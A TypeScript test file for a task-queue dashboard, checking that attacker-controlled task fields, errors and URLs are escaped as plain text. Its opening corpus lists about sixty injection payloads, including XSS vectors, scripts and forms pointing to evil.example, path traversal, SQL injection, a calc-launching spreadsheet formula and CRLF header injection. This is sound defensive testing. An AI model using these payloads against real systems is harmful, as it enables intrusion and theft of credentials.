// What an attacker can have written into a task, its error, or an address is shown as text, whatever it looks like.
import { describe, expect, it } from "vitest";
import { newTask } from "../../src/conformance/scene.ts";
import { html } from "../../src/dashboard/markup.ts";
import { boxOf, openScene, type Page, unescaped, visitorOf } from "./scene.ts";

/** Ways to break out of text, of an attribute, of an address, of a script, of a comment. */
export const corpus: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '"><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '"autofocus onfocus=alert(1)//',
  "`onmouseover=alert(1)`",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</pre><iframe src=javascript:alert(1)>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/",
  "https://evil.example/?x=<y>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&quot;&gt;<b>bold</b>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example><input name=token>",
  "<style>@import '//evil.example/x.css'</style>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "＜script＞alert(1)＜/script＞",
  "a\u202egnp.exe",
  "a\u2066b\u2069",
  "line one\nline two\r\n<hr>",
  "tab\there\u0007\u001b[31mred",
  "ok\u2028<script>\u2029",
  "../../../etc/passwd",
  "?state=failed&type=x#y",
  "a=b;c='d'",
  "__proto__",
  "constructor",
  "=cmd|'/c calc'!A1",
  "x'; drop table task; --",
  "%00%0d%0aSet-Cookie:a=b",
  "😀🏴‍☠️",
  "é̂́",
  " leading and trailing ",
  "a".repeat(200),
  "<".repeat(150),
  '"'.repeat(150),
  "<!--",
];

/** Elements and attributes that no page of ours has, as a parser would see them. */
const ours =
  /<\/?(?:!doctype|html|head|meta|title|link|script|body|a|header|nav|form|label|input|button|main|h1|h2|h3|p|div|section|ul|ol|li|span|table|caption|thead|tbody|tr|th|td|dl|dt|dd|time|details|summary|pre|code|strong|bdi|select|option|footer)(?: [a-z-]+(?:="[^"<>]*")?)*>/gi;

function expectHarmless({ html: page }: Page, where: string): void {
  expect(page.replace(ours, ""), where).not.toMatch(/[<>]/);
  const names = [...page.matchAll(ours)].map(([tag]) => tag.replace(/="[^"]*"/g, ""));
  expect(
    names.filter((tag) => /\son[a-z]|style/i.test(tag)),
    where,
  ).toEqual([]);
  const addresses = [...page.matchAll(/(?:href|src|action)="([^"]*)"/g)].map(([, address = ""]) => address);
  expect(
    addresses.filter((address) => !/^(?:\/(?!\/)|#)/.test(address)),
    where,
  ).toEqual([]);
  expect([...page.matchAll(/<script/gi)].length, where).toBe(page === "" ? 0 : 1);
}

it("the corpus is one", () => {
  expect(corpus.length).toBeGreaterThanOrEqual(60);
  expect(new Set(corpus).size).toBe(corpus.length);
});

describe("in every field of a task", () => {
  it("is shown as text on every page that shows it", async () => {
    await using scene = await openScene();
    for (const [index, text] of corpus.entries()) {
      const encoded = new TextEncoder().encode(text);
      const fields = {
        type: text.slice(0, 100),
        referenceId: text,
        data: encoded,
        codec: text.slice(0, 40),
        headers: { x: text },
      };
      await scene.enqueue([newTask(`${text}`, fields), newTask(`${index}:${text}`, fields)]);
      await scene.failAll(text, { name: text, code: text, stack: `${text}\n  at ${text}` });
    }
    const visitor = visitorOf(scene, { authorize: () => "<i>ann</i>" });
    for (const path of ["", "tasks", "failed", "processes"]) expectHarmless(await visitor.get(path), path);
    for (const text of corpus) {
      const query = new URLSearchParams({ id: text, data: "shown" }).toString();
      const task = await visitor.get(`task?${query}`);
      expect([task.status, text]).toEqual([200, text]);
      expectHarmless(task, `task ${text}`);
      const address = new URLSearchParams({
        type: text.slice(0, 100),
        reference: text,
        id: text,
        error: text,
      }).toString();
      expectHarmless(await visitor.get(`tasks?state=failed&${address}`), `tasks ${text}`);
      expectHarmless(
        await visitor.get(`find?${new URLSearchParams({ q: text }).toString()}`),
        `find ${text}`,
      );
      expectHarmless(
        await visitor.press(await visitor.get("tasks"), "Redrive selected…", [boxOf(text)]),
        `preview ${text}`,
      );
    }
  });

  it("an id goes through links and forms unchanged, so that exactly that task is redriven", async () => {
    await using scene = await openScene();
    await scene.enqueue(corpus.map((text) => newTask(text, { type: "mail" })));
    await scene.failAll();
    const visitor = visitorOf(scene);
    for (const text of corpus) {
      const page = await visitor.get(`task?${new URLSearchParams({ id: text }).toString()}`);
      await visitor.press(page, "Redrive");
      expect([text, (await scene.store.get(text))?.state]).toEqual([text, "pending"]);
    }
  });

  it("a title, a header or a redirect cannot be broken out of", async () => {
    await using scene = await openScene();
    await scene.enqueue([newTask("x\r\nSet-Cookie: a=b", { type: "mail", referenceId: "r\r\nX: y" })]);
    const found = await visitorOf(scene).get("find?q=r%0D%0AX%3A%20y");
    expect(found.headers.get("location")).toBe("/task?id=x%0D%0ASet-Cookie%3A+a%3Db");
    expect(found.headers.has("set-cookie")).toBe(false);
  });
});

describe("a template", () => {
  it.each(corpus)("escapes %j in text and in an attribute", (text) => {
    const page = html`<p title="${text}">${text}</p>`.toString();
    const [, title = "", inside = ""] = /^<p title="([^"<>]*)">([^<>]*)<\/p>$/.exec(page) ?? [
      "",
      "broken",
      "broken",
    ];
    expect(unescaped(title)).toBe(text);
    expect(unescaped(inside).length).toBe(text.length);
  });

  it("keeps what templates made, joins lists, and leaves out null and false", () => {
    expect(html`<ul>${["<", html`<li>${1}</li>`]}${null}${false}</ul>`.toString()).toBe(
      "<ul>&lt;<li>1</li></ul>",
    );
  });

  it("shows what nobody could see, and what turns the direction of text, as such", () => {
    expect(html`<b>${"a\u202eb\u0000c\nd"}</b>`.toString()).toBe("<b>a\ufffdb\ufffdc\nd</b>");
  });
});
